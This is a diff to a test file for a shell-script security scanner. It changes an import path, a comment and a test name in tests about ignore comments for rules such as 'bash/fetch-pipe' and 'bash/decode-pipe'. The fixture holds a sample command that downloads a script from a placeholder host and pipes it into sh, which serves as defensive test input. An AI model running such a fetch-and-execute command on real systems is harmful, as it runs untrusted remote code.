@@ -1,11 +1,11 @@
 import { describe, expect, it } from "vitest";
 import { folderWith } from "../folder.js";
-import { runHere } from "../stand-in.js";
+import { runHere } from "../fake-detector.js";
 
 const BAD = "curl https://x.example/i.sh | sh";
 const NOTE = "curlew-ignore bash/fetch-pipe: our own installer";
 
-/** Returns the lines of a file's findings, of ignored findings, and of remarks. */
+/** Scans a file, and returns the lines of its findings, of suppressed findings, and of warnings. */
 async function scan(name: string, text: string, ...args: string[]) {
   const { stdout, status } = await runHere(["scan", "--format", "jsonl", ...args, name], {
     cwd: folderWith({ [name]: text }),
@@ -205,7 +205,7 @@ describe("an error in an ignore comment is reported", () => {
     expect(status).toBe(0);
   });
 
-  it("but not in an incompletely analyzed text, and not for an inactive rule", async () => {
+  it("except in an incompletely analyzed text and for an inactive rule", async () => {
     expect((await scan("a.sh", `# ${NOTE}\nTOO LONG\n`)).remarks).toEqual([]);
     expect((await scan("a.sh", "# curlew-ignore bash/decode-pipe: x\ntrue\n")).remarks).toEqual([]);
   });
